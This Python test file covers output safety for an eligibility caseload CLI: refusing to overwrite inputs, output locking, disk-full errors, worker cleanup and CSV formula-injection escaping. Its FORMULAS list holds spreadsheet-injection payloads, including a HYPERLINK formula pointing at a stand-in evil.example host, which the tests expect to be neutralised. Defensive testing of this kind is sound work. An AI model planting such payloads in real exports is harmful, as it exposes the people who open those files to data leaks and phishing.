"""Caseload output safety (issue 14): what batch, watchlist and impact write, and where.

Each test is named after the defect it keeps fixed (docs/reliability.md,
"Hostile-input review (issue 14)", "Caseload output"). Races are made
deterministic: the test holds the output lock itself, or pauses the batch in
a hook before it SIGKILLs it.
"""

from __future__ import annotations

import csv
import errno
import fcntl
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from eligibility.caseload import batch as batch_module
from eligibility.caseload import on_dask, output_guard
from eligibility.caseload.batch import checkpoint_path, run_batch
from eligibility.caseload.csv_cells import safe_cell
from eligibility.caseload.output_guard import exclusive, lock_path
from eligibility.cli import app
from eligibility.errors import OutputInUseError, OutputPathError

runner = CliRunner()
SP_CASE = {"as_of": "2011-03-15", "person": {"birth_date": "1975-06-02", "employment": "arbetslos"},
           "benefit": {"type": "sjukpenning", "sjukpenning_days_used": 700, "allvarlig_sjukdom": False}}
FORMULAS = ['=HYPERLINK("http://evil.example/?x","klicka")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
HARMLESS = ["plain", "a=b", "1-2"]


def _cases(path: Path, ids: list[str] | None = None) -> Path:
    ids = ids or ["a", "b", "c"]
    path.write_text("".join(json.dumps({"id": i, **SP_CASE}) + "\n" for i in ids), encoding="utf-8")
    return path


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _no_traceback(result) -> None:
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output


# --------------------------------------------------------------------------- output is an input


@pytest.mark.parametrize("suffix,mode", [(".jsonl", []), (".csv", []), (".jsonl", ["--per-case"]),
                                         (".csv", ["--columnar"]), (".parquet", ["--columnar"])],
                         ids=["jsonl", "csv", "jsonl-per-case", "csv-columnar", "parquet-columnar"])
def test_batch_refuses_an_output_path_that_is_its_input(tmp_path, mode, suffix):
    cases = tmp_path / f"in{suffix}"
    if suffix == ".jsonl":
        _cases(cases)
    elif suffix == ".csv":
        cases.write_text("id,as_of,birth_date,benefit_type\na,2011-03-15,1975-06-02,ingen\n", encoding="utf-8")
    else:
        pl.DataFrame({"id": ["a"], "as_of": ["2011-03-15"]}).write_parquet(cases)
    before = cases.read_bytes()
    result = runner.invoke(app, ["batch", str(cases), "-o", str(cases), "--workers", "1", *mode])
    assert result.exit_code == 2, result.output
    assert "OUTPUT_IS_INPUT" in result.output and str(cases) in result.output
    _no_traceback(result)
    assert cases.read_bytes() == before and _files(tmp_path) == [cases.name]


@pytest.mark.parametrize("link", ["symlink", "hardlink", "relative"])
def test_batch_refuses_an_output_that_is_its_input_under_another_name(tmp_path, monkeypatch, link):
    cases = _cases(tmp_path / "in.jsonl")
    before = cases.read_bytes()
    output = tmp_path / "out.jsonl"
    if link == "symlink":
        output.symlink_to(cases)
    elif link == "hardlink":
        os.link(cases, output)
    else:
        monkeypatch.chdir(tmp_path)
        output = Path("sub/../in.jsonl")
        (tmp_path / "sub").mkdir()
    with pytest.raises(OutputPathError, match="the input itself"):
        run_batch(cases, output, tmp_path / "err.jsonl")
    assert cases.read_bytes() == before


@pytest.mark.parametrize("which", ["errors", "default-errors", "partial", "checkpoint"])
def test_batch_refuses_to_write_any_of_its_files_over_the_input(tmp_path, which):
    # --errors IN, IN named like OUT's default errors file, or IN being a file the run truncates (OUT.partial).
    output = tmp_path / "out.jsonl"
    name = {"errors": "in.jsonl", "default-errors": "out.errors.jsonl", "partial": "out.jsonl.partial",
            "checkpoint": "out.jsonl.partial.ckpt"}[which]
    cases = tmp_path / name
    _cases(tmp_path / "tmp.jsonl").rename(cases)
    before = cases.read_bytes()
    args = ["batch", str(cases), "-o", str(output), "--workers", "1"]
    if which == "errors":
        args += ["--errors", str(cases)]
    if cases.suffix not in (".jsonl", ".csv"):  # the CLI only reads .jsonl/.csv: go through the library
        with pytest.raises(OutputPathError, match="the input itself"):
            run_batch(cases, output, tmp_path / "err.jsonl")
    else:
        result = runner.invoke(app, args)
        assert result.exit_code == 2 and "OUTPUT_IS_INPUT" in result.output, result.output
    assert cases.read_bytes() == before and _files(tmp_path) == [name]


def test_batch_refuses_one_file_for_decisions_and_errors(tmp_path):
    cases = _cases(tmp_path / "in.jsonl")
    output = tmp_path / "out.jsonl"
    result = runner.invoke(app, ["batch", str(cases), "-o", str(output), "--errors", str(output), "--workers", "1"])
    assert result.exit_code == 2 and "different files" in result.output
    assert _files(tmp_path) == ["in.jsonl"]


@pytest.mark.parametrize("mode", [[], ["--columnar"]], ids=["streaming", "columnar"])
def test_batch_refuses_a_directory_as_output_before_deciding_anything(tmp_path, mode):
    cases = _cases(tmp_path / "in.jsonl")
    (tmp_path / "out.csv").mkdir()
    result = runner.invoke(app, ["batch", str(cases), "-o", str(tmp_path / "out.csv"), "--workers", "1", *mode])
    assert result.exit_code == 2 and "OUTPUT_IS_DIRECTORY" in result.output, result.output
    assert "--resume" not in result.output and _files(tmp_path) == ["in.jsonl", "out.csv"]


def test_watchlist_table_to_a_file_is_refused_before_the_run(tmp_path):
    cases = _cases(tmp_path / "in.jsonl")
    result = runner.invoke(app, ["watchlist", str(cases), "-o", str(tmp_path / "bevakning.txt")])
    assert result.exit_code == 2 and "expected --format csv or json with -o" in result.output
    assert _files(tmp_path) == ["in.jsonl"]


@pytest.mark.parametrize("command", ["watchlist", "impact"])
def test_watchlist_and_impact_refuse_an_output_that_is_their_input(tmp_path, books, command):
    cases = _cases(tmp_path / "in.jsonl")
    before = cases.read_bytes()
    args = (["watchlist", str(cases), "--format", "csv"] if command == "watchlist"
            else ["impact", str(cases), "--from", books[0].id, "--to", books[-1].id, "--format", "md"])
    result = runner.invoke(app, [*args, "-o", str(cases)])
    assert result.exit_code == 2 and "OUTPUT_IS_INPUT" in result.output, result.output
    assert cases.read_bytes() == before and _files(tmp_path) == ["in.jsonl"]


# --------------------------------------------------------------------------- one run per output


def _hold(path: Path):
    """Take the lock a batch run on ``path`` takes, as a second run would find it."""
    handle = lock_path(path).open("w")
    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return handle


@pytest.mark.parametrize("mode", [[], ["--per-case"], ["--columnar"]], ids=["columnar-rows", "per-case", "columnar"])
def test_second_batch_on_the_same_output_fails_at_once_and_leaves_the_first_runs_files(tmp_path, mode):
    cases = _cases(tmp_path / "in.jsonl")
    output = tmp_path / ("out.parquet" if mode == ["--columnar"] else "out.jsonl")
    # Run A is "running": it holds the lock and has a partial file and a checkpoint.
    partial, ckpt = output.with_name(output.name + ".partial"), checkpoint_path(output)
    partial.write_bytes(b'{"line": 1, "id": "from run A"}\n')
    ckpt.write_text('{"line": 1}', encoding="utf-8")
    held = _hold(output)
    try:
        started = time.monotonic()
        result = runner.invoke(app, ["batch", str(cases), "-o", str(output), "--workers", "1", *mode])
        assert time.monotonic() - started < 10  # at once: no waiting for the lock
    finally:
        held.close()
    assert result.exit_code == 2, result.output
    assert "OUTPUT_IN_USE" in result.output and str(output) in result.output
    _no_traceback(result)
    assert partial.read_bytes() == b'{"line": 1, "id": "from run A"}\n'
    assert ckpt.read_text(encoding="utf-8") == '{"line": 1}' and not output.exists()


def test_second_batch_sharing_only_the_errors_file_fails_at_once(tmp_path):
    cases = _cases(tmp_path / "in.jsonl")
    errors = tmp_path / "shared.errors.jsonl"
    held = _hold(errors)
    try:
        with pytest.raises(OutputInUseError, match="no other run writing"):
            run_batch(cases, tmp_path / "b.jsonl", errors)
    finally:
        held.close()
    assert not (tmp_path / "b.jsonl").exists()


def test_the_output_lock_is_released_and_removed_after_a_run(tmp_path, monkeypatch):
    cases = _cases(tmp_path / "in.jsonl")
    output = tmp_path / "out.jsonl"
    run_batch(cases, output, tmp_path / "err.jsonl")
    assert _files(tmp_path) == ["err.jsonl", "in.jsonl", "out.jsonl"]

    def fail(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(batch_module.RowWriter, "write", fail)
    with pytest.raises(OSError):
        run_batch(cases, tmp_path / "again.jsonl", tmp_path / "again.err")
    monkeypatch.undo()
    assert not lock_path(tmp_path / "again.jsonl").exists()
    run_batch(cases, tmp_path / "again.jsonl", tmp_path / "again.err")  # not locked out by the failed run


def test_output_lock_taken_on_a_file_just_unlinked_by_its_holder_is_retaken(tmp_path, monkeypatch):
    # The run before us unlinks its lock file while we hold it open: the lock we then get is on a file
    # no other run can see, so we must lock the file the path names instead.
    output = tmp_path / "out.jsonl"
    real_flock = fcntl.flock
    calls = {"n": 0}

    def flock_after_unlink(fd, operation):
        calls["n"] += 1
        if calls["n"] == 1:
            lock_path(output).unlink()
        real_flock(fd, operation)

    monkeypatch.setattr(output_guard.fcntl, "flock", flock_after_unlink)
    with exclusive([output]):
        monkeypatch.setattr(output_guard.fcntl, "flock", real_flock)
        assert calls["n"] == 2 and lock_path(output).exists()
        with pytest.raises(OutputInUseError):
            with exclusive([output]):
                pass
    assert not lock_path(output).exists()


# --------------------------------------------------------------------------- disk full (--columnar)


def test_columnar_batch_on_a_full_disk_exits_1_without_traceback_or_partial_parquet(tmp_path, monkeypatch):
    cases = _cases(tmp_path / "in.jsonl")

    def disk_full(self, file, *args, **kwargs):  # what polars really raises on ENOSPC while writing Parquet
        Path(file).write_bytes(b"PAR1 half a file")
        raise pl.exceptions.ComputeError("parquet: File out of specification: underlying IO error: "
                                         "No space left on device (os error 28)")

    monkeypatch.setattr(pl.DataFrame, "write_parquet", disk_full)
    output = tmp_path / "out.parquet"
    result = runner.invoke(app, ["batch", str(cases), "-o", str(output), "--columnar"])
    assert result.exit_code == 1, result.output
    assert f"{output}: cannot write (No space left on device)" in result.output
    _no_traceback(result)
    assert _files(tmp_path) == ["in.jsonl"]


def test_columnar_batch_on_a_full_disk_exits_1_without_traceback_or_partial_csv(tmp_path, monkeypatch):
    cases = _cases(tmp_path / "in.jsonl")

    def disk_full(self, file, *args, **kwargs):  # polars' CSV writer: an OSError without errno
        Path(file).write_bytes(b"line,id\n1,")
        raise OSError("No space left on device (os error 28)")

    monkeypatch.setattr(pl.DataFrame, "write_csv", disk_full)
    result = runner.invoke(app, ["batch", str(cases), "-o", str(tmp_path / "out.csv"), "--columnar"])
    assert result.exit_code == 1 and "cannot write (No space left on device)" in result.output
    _no_traceback(result)
    assert _files(tmp_path) == ["in.jsonl"]


def test_report_writers_on_a_full_disk_exit_1_and_keep_the_previous_file(tmp_path, monkeypatch, books):
    cases = _cases(tmp_path / "in.jsonl")
    previous = tmp_path / "bevakning.csv"
    previous.write_text("previous report\n", encoding="utf-8")

    def disk_full(fd):  # a full disk can surface as late as fsync (delayed allocation)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(output_guard.os, "fsync", disk_full)
    for args in (["watchlist", str(cases), "--within", "12m", "--format", "csv", "-o", str(previous)],
                 ["impact", str(cases), "--from", books[0].id, "--to", books[-1].id, "-o", str(previous)]):
        if args[0] == "impact":
            args[-1] = str(previous.with_suffix(".md"))
        result = runner.invoke(app, args)
        assert result.exit_code == 1 and "cannot write (No space left on device)" in result.output, result.output
        _no_traceback(result)
    monkeypatch.undo()
    assert previous.read_text(encoding="utf-8") == "previous report\n"
    assert _files(tmp_path) == ["bevakning.csv", "in.jsonl"]


def test_synth_to_a_missing_directory_is_a_clear_error(tmp_path):
    result = runner.invoke(app, ["synth", "--n", "5", "-o", str(tmp_path / "missing" / "cases.jsonl")])
    assert result.exit_code == 1 and "cannot write" in result.output
    _no_traceback(result)


def test_batch_input_that_fails_to_read_is_reported_as_unreadable_not_unwritable(tmp_path, monkeypatch):
    cases = _cases(tmp_path / "in.jsonl")

    def broken(path, *args, **kwargs):
        raise OSError(errno.EIO, os.strerror(errno.EIO), str(path))

    monkeypatch.setattr(batch_module, "read_cases", broken)
    result = runner.invoke(app, ["batch", str(cases), "-o", str(tmp_path / "out.jsonl"), "--workers", "1"])
    assert result.exit_code == 1 and f"{cases}: cannot read (Input/output error)" in result.output
    _no_traceback(result)


@pytest.mark.parametrize("command", ["watchlist", "impact"])
def test_watchlist_and_impact_input_that_fails_to_read_is_a_clear_error(tmp_path, monkeypatch, books, command):
    from eligibility.cli import caseload as cli_caseload

    cases = _cases(tmp_path / "in.jsonl")

    def broken(path, *args, **kwargs):
        raise OSError(errno.EIO, os.strerror(errno.EIO), str(path))

    monkeypatch.setattr(cli_caseload, "read_cases", broken)
    args = ([command, str(cases)] if command == "watchlist"
            else [command, str(cases), "--from", books[0].id, "--to", books[-1].id])
    result = runner.invoke(app, args)
    assert result.exit_code == 1 and f"{cases}: cannot read (Input/output error)" in result.output
    _no_traceback(result)


# --------------------------------------------------------------------------- workers die with the batch


_PAUSED_BATCH = textwrap.dedent("""
    import json, multiprocessing, os, sys, threading
    from eligibility.caseload import batch

    checkpoint, pids_file = batch._Checkpointer.__call__, sys.argv[1]

    def pause_after_first_chunk(self, chunk):
        checkpoint(self, chunk)
        pids = [p.pid for p in multiprocessing.active_children()]
        with open(pids_file + ".tmp", "w") as handle:
            json.dump(pids, handle)
        os.replace(pids_file + ".tmp", pids_file)
        threading.Event().wait()  # until SIGKILLed

    batch._Checkpointer.__call__ = pause_after_first_chunk
    from eligibility.cli import app
    sys.argv = ["eligibility", "batch", *sys.argv[2:]]
    app()
""")


_PAUSED_POOL = textwrap.dedent("""
    import json, multiprocessing, os, sys, threading
    from concurrent.futures import ProcessPoolExecutor
    sys.path.insert(0, sys.argv[2])
    import test_caseload_output

    pool = ProcessPoolExecutor(2, mp_context=multiprocessing.get_context("spawn"),
                               initializer=test_caseload_output.watchdog_only)
    futures = [pool.submit(os.getpid) for _ in range(8)]
    [future.result() for future in futures]
    pids = [p.pid for p in multiprocessing.active_children()]
    with open(sys.argv[1] + ".tmp", "w") as handle:
        json.dump(pids, handle)
    os.replace(sys.argv[1] + ".tmp", sys.argv[1])
    threading.Event().wait()  # until SIGKILLed
""")


def watchdog_only() -> None:
    """A pool initializer for a system without ``prctl``: only the watchdog thread follows the parent."""
    from eligibility.caseload import worker_lifetime

    worker_lifetime._ask_kernel = lambda: False
    worker_lifetime.WATCH_SECONDS = 0.05
    worker_lifetime.die_with_parent()


def _alive(pid: int) -> bool:
    """Running and not a zombie (a container's PID 1 may never reap the orphans it inherits)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] not in ("Z", "X")


def _ppid(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


def _kill_and_expect_no_survivors(argv: list[str], pids_file: Path) -> None:
    process = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while not pids_file.exists():
            assert process.poll() is None, process.stderr.read().decode()
            assert time.monotonic() < deadline, "the workers never got to work"
            time.sleep(0.05)
        workers = json.loads(pids_file.read_text())
        assert len(workers) == 2 and all(_alive(pid) and _ppid(pid) == process.pid for pid in workers)
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
        process.stderr.close()
    deadline = time.monotonic() + 10
    while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    survivors = [pid for pid in workers if _alive(pid)]
    for pid in survivors:  # do not leave them behind for the rest of the suite
        os.kill(pid, signal.SIGKILL)
    assert survivors == [], "workers outlived their SIGKILLed parent"


_LINUX = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")


@_LINUX
def test_sigkilled_per_case_batch_leaves_no_worker_running(tmp_path):
    cases = _cases(tmp_path / "in.jsonl", [f"c{i}" for i in range(600)])  # two chunks of 500: two workers
    pids_file = tmp_path / "pids.json"
    _kill_and_expect_no_survivors([sys.executable, "-c", _PAUSED_BATCH, str(pids_file), str(cases), "-o",
                                   str(tmp_path / "out.jsonl"), "--per-case", "--workers", "2"], pids_file)


@_LINUX
def test_workers_without_prctl_die_with_their_parent_by_the_watchdog(tmp_path):
    pids_file = tmp_path / "pids.json"
    _kill_and_expect_no_survivors([sys.executable, "-c", _PAUSED_POOL, str(pids_file),
                                   str(Path(__file__).parent)], pids_file)


# --------------------------------------------------------------------------- CSV formula injection


def _csv_ids(path: Path, column: str, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [row[column] for row in csv.DictReader(handle, delimiter=delimiter)]


def _expected() -> list[str]:
    return ["'" + value for value in FORMULAS] + HARMLESS


@pytest.mark.parametrize("mode", [[], ["--per-case"]], ids=["columnar-rows", "per-case"])
def test_decisions_csv_writes_formula_like_ids_as_text(tmp_path, mode):
    cases = _cases(tmp_path / "in.jsonl", FORMULAS + HARMLESS)
    output = tmp_path / "decisions.csv"
    result = runner.invoke(app, ["batch", str(cases), "-o", str(output), "--workers", "1", *mode])
    assert result.exit_code == 0, result.output
    assert _csv_ids(output, "id") == _expected()
    run_batch(cases, tmp_path / "decisions.jsonl", tmp_path / "err.jsonl")  # JSONL is data: ids verbatim
    rows = [json.loads(line) for line in (tmp_path / "decisions.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [row["id"] for row in rows] == FORMULAS + HARMLESS


def test_columnar_csv_writes_formula_like_ids_as_text(tmp_path):
    cases = _cases(tmp_path / "in.jsonl", FORMULAS + HARMLESS)
    output = tmp_path / "out.csv"
    result = runner.invoke(app, ["batch", str(cases), "-o", str(output), "--columnar"])
    assert result.exit_code == 0, result.output
    assert _csv_ids(output, "id") == _expected()


def test_watchlist_csv_writes_formula_like_ids_as_text(tmp_path):
    cases = _cases(tmp_path / "in.jsonl", FORMULAS + HARMLESS)
    output = tmp_path / "bevakning.csv"
    args = ["watchlist", str(cases), "--within", "12m", "--format", "csv"]
    assert runner.invoke(app, [*args, "-o", str(output)]).exit_code == 0
    ids = _csv_ids(output, "ärende", ";")
    assert ids and set(ids) == set(_expected())
    for value in FORMULAS:
        assert value not in ids


def test_safe_cell_leaves_numbers_and_harmless_text_alone():
    assert [safe_cell(v) for v in (-5, 3.5, None, "", "a=b", "2011-03-15")] == [-5, 3.5, None, "", "a=b", "2011-03-15"]
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]


# --------------------------------------------------------------------------- Dask scheduler unreachable


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.parametrize("command", ["batch", "impact"])
def test_unreachable_dask_scheduler_is_reported_as_unreachable_not_as_a_write_error(tmp_path, monkeypatch,
                                                                                    books, command):
    pytest.importorskip("dask.distributed")
    monkeypatch.setattr(on_dask, "CONNECT_SECONDS", 0.5)
    cases = _cases(tmp_path / "in.jsonl")
    address = f"tcp://127.0.0.1:{_closed_port()}"
    args = (["batch", str(cases), "-o", str(tmp_path / "out.jsonl")] if command == "batch"
            else ["impact", str(cases), "--from", books[0].id, "--to", books[-1].id])
    result = runner.invoke(app, [*args, "--scheduler", address])
    assert result.exit_code == 2, result.output
    assert f"cannot reach the Dask scheduler at {address}" in result.output
    assert "DASK_SCHEDULER_UNREACHABLE" in result.output and "cannot write" not in result.output
    _no_traceback(result)
    assert _files(tmp_path) == ["in.jsonl"]


def test_malformed_dask_scheduler_address_is_reported_as_unreachable(tmp_path):
    pytest.importorskip("dask.distributed")
    cases = _cases(tmp_path / "in.jsonl")
    result = runner.invoke(app, ["batch", str(cases), "-o", str(tmp_path / "out.jsonl"), "--scheduler", "nonsense"])
    assert result.exit_code == 2 and "cannot reach the Dask scheduler at nonsense" in result.output
    _no_traceback(result)
